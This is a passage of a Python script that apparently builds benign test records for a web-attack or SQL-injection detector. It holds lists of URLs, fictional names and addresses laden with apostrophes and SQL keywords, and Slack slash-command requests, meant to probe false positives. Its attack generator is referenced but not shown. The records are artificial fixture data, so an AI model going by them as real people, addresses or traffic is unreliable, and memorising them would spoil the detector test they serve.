    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.sqlite.org/json1.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://en.wikipedia.org/wiki/Union_(set_theory)",
    "https://en.wikipedia.org/wiki/Integer_overflow",
    "https://www.example.com/search?q=union+select&page=2",
    "https://shop.example.org/products?sort=price&order=asc",
    "https://shop.example.org/products?category=sleep&limit=20",
    "https://blog.example.com/2024/05/12/benchmarking-postgres-16",
    "https://news.example.co.uk/sport/match-report-3-1",
    "https://maps.example.com/?q=Union+Square,+San+Francisco",
    "https://example.com/o'reilly-books",
    "https://github.com/acme/db-tools/blob/main/sql/001_create_users.sql",
    "https://github.com/acme/api/pull/482#issuecomment-1",
    "https://example.org/wiki/Drop_(liquid)",
    "https://docs.example.com/api/v2/users?fields=id,name&order=desc",
    "https://cdn.example.com/img/banner@2x.png?v=3",
    "https://calendar.example.com/event?id=42&tz=Europe%2FLondon",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php",
    "https://www.postgresql.org/docs/current/functions-admin.html",
    "https://mariadb.com/kb/en/comment-syntax/",
    "https://example.com/reports/2024-Q2.pdf#page=3",
    "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
    "https://jobs.example.com/listing?title=SQL+Developer&location=Leeds",
    "https://forum.example.net/t/case-when-vs-if/1234",
    "https://www.example.com/it's-here",
]

PEOPLE = [
    ("Seán O'Sullivan", "12 Union Street", "Cork"), ("Mary D'Angelo", "4 Select Lane", "Boston"),
    ("Grant Sleep", "77 Order Road", "Leeds"), ("Rose Benchmark", "1 Table Court", "Bath"),
    ("Chris Drop", "15 Merge Avenue", "Austin"), ("Lee Union", "Flat 2, 9 Match St", "Glasgow"),
    ("Jo O'Hara", "221 Delay Drive", "Perth"), ("Ann L'Estrange", "3 Char Close", "York"),
    ("Zoë Where", "8 Having Way", "Cardiff"), ("Tom Case", "16 Convert Crescent", "Derby"),
    ("Ava Select", "Apt 5B, 100 Main St", "New York"), ("Nils Östlund", "Storgatan 1", "Umeå"),
    ("Renée Dubois-Null", "5 rue de l'Église", "Lyon"), ("Hiroshi Tanaka", "2-3-1 Chiyoda", "Tokyo"),
    ("Ola Nordmann", "Karl Johans gate 22", "Oslo"), ("Siobhán Ní Bhriain", "Main Street", "Dingle"),
    ("Pat McExec", "#12 Harbour View", "Sydney"), ("Bea Insert", "Unit 7/33 King St", "Melbourne"),
    ("Dan Update", "PO Box 42", "Halifax"), ("Eve Delete", "1 Infinite Loop", "Cupertino"),
    ("Max Limit", "10 Downing Street", "London"), ("Kim Offset", "Bldg 3, Floor 2", "Seoul"),
    ("Ida Group", "Hauptstraße 5", "München"), ("Li Wei", "No. 8, Lane 3, Road 1", "Taipei"),
    ("Ana María Ruiz", "Calle Mayor 1, 2ºB", "Madrid"), ("João Sá", "Rua Augusta 100", "Lisboa"),
    ("Noor Al-Hashimi", "Villa 4, Street 12", "Dubai"), ("Olu Adeyemi", "14 Awolowo Rd", "Lagos"),
    ("Priya Shah", "B-204, Sunrise Apts", "Pune"), ("Mikael Järvinen", "Mannerheimintie 2", "Helsinki"),
    ("Declan Wait", "3 Shutdown Row", "Dublin"), ("Hex Patel", "0x House, 1 Byte Rd", "Reading"),
    ("Sam O'Neill-Smith", "Flat 1/2, 5 Byres Rd", "Glasgow"), ("Kate Alter", "9 Procedure Pl", "Hull"),
    ("Rob Function", "2 Execute Ave", "Ottawa"), ("Jen Truncate", "44 Rename Rd", "Auckland"),
    ("Ben Declare", "18 Null Lane", "Brighton"), ("Lucy Char", "6 Ascii Mews", "Oxford"),
    ("Owen Sum", "7 Count Terrace", "Swansea"), ("Mia Max", "3 Min Street", "Wellington"),
]

PROFILE_NOTES = [
    "loves SQL puzzles and long walks", "union organiser, part-time DJ", "benchmarks everything, sleeps rarely",
    "Oracle DBA for 10 years", "PostgreSQL fan; MySQL when I must", "data analyst: select, group by, repeat",
    "I'm the person who asks 'where is the data from?'", "coffee > tea", "runner, 5k in 24:10",
    "ask me about MongoDB aggregations",
]


def _slash(text: str) -> dict[str, Any]:
    body = urllib.parse.urlencode([
        ("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
        ("channel_id", "C0123456789"), ("channel_name", "general"), ("user_id", "U012345678"),
        ("user_name", "ann"), ("command", "/do"), ("text", text),
        ("response_url", "https://hooks.slack.com/commands/T061EG9R6/1234/abcd"), ("trigger_id", "1234.5678.abcd")])
    return {"method": "POST", "uri": "/slack/commands", "body": body,
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from numbered((_slash(t) for t in SLASH_TEXTS), f"{NAME}-command", n, "form")
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]) for s in SEARCHES),
                            f"{NAME}-adminsearch", n, "form")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    profiles = (_json("/api/users", {"name": who, "address": street, "city": city,
                                     "bio": PROFILE_NOTES[i % len(PROFILE_NOTES)]})
                for i, (who, street, city) in enumerate(PEOPLE))
    n = yield from numbered(profiles, f"{NAME}-profile", n, "json")
    names = (_get(_query("/api/users", [("name", who), ("city", city)])) for who, _, city in PEOPLE)
    yield from numbered(names, f"{NAME}-name", n, "query")


if __name__ == "__main__":
    print_records(attacks(), benign())
